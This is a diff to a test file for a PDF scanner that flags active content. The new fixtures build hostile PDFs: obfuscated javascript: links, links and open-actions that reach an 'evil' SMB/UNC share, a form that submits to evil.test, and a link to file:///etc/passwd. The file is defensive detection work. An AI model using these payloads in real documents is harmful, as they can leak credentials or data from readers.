@@ -1,5 +1,5 @@
 import { deflateSync } from 'node:zlib'
-import { PDFName } from '@cantoo/pdf-lib'
+import { PDFName, PDFString } from '@cantoo/pdf-lib'
 import PDFKit from 'pdfkit'
 import { expect, test } from 'vitest'
 import { drawn, packedObjects, runScript, written } from '#server/testing/active-pdfs.ts'
@@ -7,6 +7,20 @@ import { encrypted } from '#server/testing/hostile-pdfs.ts'
 import { inspectPdf } from './inspect-pdf.ts'
 
 const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'
+const linked = (text: string) => written('', [`<</Subtype/Link/A<</S/URI/URI${text}>>>>`])
+const STRANGE = [
+  'javascript:app.alert\\(1\\)',
+  'JaVa\\nScript:x',
+  '\\152avascript:x',
+  'file://evil/share',
+  '\\\\\\\\evil\\\\share',
+  '//evil/share',
+  'smb://evil/share',
+]
+const linkTo = (link: string) => (document: Parameters<typeof runScript>[0]) => {
+  const action = document.context.obj({ S: 'URI', URI: PDFString.of(link) })
+  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action))
+}
 const page = (more: string) => `6 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${more}>> endobj\n`
 const stream = (content: string) => `<</Length ${content.length}>>stream\n${content}\nendstream`
 /** A document whose page carries a script, before or after it was changed. */
@@ -40,6 +54,24 @@ test.each<[string, Buffer]>([
   ],
   ['a file beside a page', written('', ['<</Subtype/FileAttachment/FS<</F(a)/EF<</F 5 0 R>>>>>>', stream('MZ')])],
   ['an XFA form', written('/AcroForm<</Fields[]/XFA 4 0 R>>', [stream('<xdp/>')])],
+  ['another file that opens with it', written('/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>')],
+  ['another file, under an escaped name', written('/OpenAction<</S/GoTo#52/F(a.pdf)/D[0/Fit]>>')],
+  ['a file within a file', written('/OpenAction<</S/GoToE/T<</R/C>>/D[0/Fit]>>')],
+  ['a form that is sent', written('', ['<</Subtype/Widget/A<</S/SubmitForm/F<</FS/URL/F(https://evil.test)>>>>>>'])],
+  ['data that is fetched', written('/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\a.fdf)>>')],
+  ['a film', written('', ['<</Subtype/Movie/Movie<</F(\\\\\\\\evil\\\\a.avi)>>>>'])],
+  ...STRANGE.map((link): [string, Buffer] => [`a link to ${link}`, linked(`(${link})`)]),
+  ['a link whose text is hex', linked(`<${Buffer.from('javascript:x').toString('hex')}>`)],
+  [
+    'a link whose text stands elsewhere',
+    written('', ['<</Subtype/Link/A<</S/URI/URI 5 0 R>>>>', '(file:///etc/passwd)']),
+  ],
+  ['a link whose text stands elsewhere, packed', written('', [packedObjects(8, ['<</S/URI/URI(file:///x)>>'])])],
+  [
+    'a link to a share in an encrypted file',
+    await drawn(linkTo('file://evil/x'), { isEncrypted: true, useObjectStreams: false }),
+  ],
+  ['a share under every link', written('/URI<</Base(\\\\\\\\evil\\\\)>>', ['<</Subtype/Link/A<</S/URI/URI(a)>>>>'])],
   ['rich media', written('', ['<</Type/Annot/Subtype/RichMedia>>'])],
 ])('%s is found', async (_, bytes) => {
   expect(await inspectPdf(bytes)).toEqual({ trouble: 'active' })
@@ -98,6 +130,10 @@ test.each<[string, Buffer]>([
   ['a paper protected against printing', await encrypted({ ownerPassword: 'boss' })],
   ['a paper protected long ago', await encrypted({ ownerPassword: 'boss' }, '1.3')],
   ['a link to the web', written('', ['<</Subtype/Link/A<</S/URI/URI(https://a.test/?S=/JavaScript)>>>>'])],
+  ['a link to the web, encrypted', await drawn(linkTo('https://nurses.test/a'), { isEncrypted: true })],
+  ['a link for mail', linked('(MAILTO:registrar@school.test)')],
+  ['a link without a scheme', linked('(www.school.test/a?b=c:d)')],
+  ['a link within the page', linked('(#top)')],
   ['an order to print', written('/OpenAction<</S/Named/N/Print>>')],
   ['a signature', written('', ['<</FT/Sig/V<</Filter/Adobe.PPKLite/ByteRange[0 9 20 9]/Contents<2f4a53>>>>>'])],
   ['fonts called as what is looked for', written('', ['<</Font<</JS 5 0 R/EF 5 0 R>>>>', '<</Type/Font>>'])],
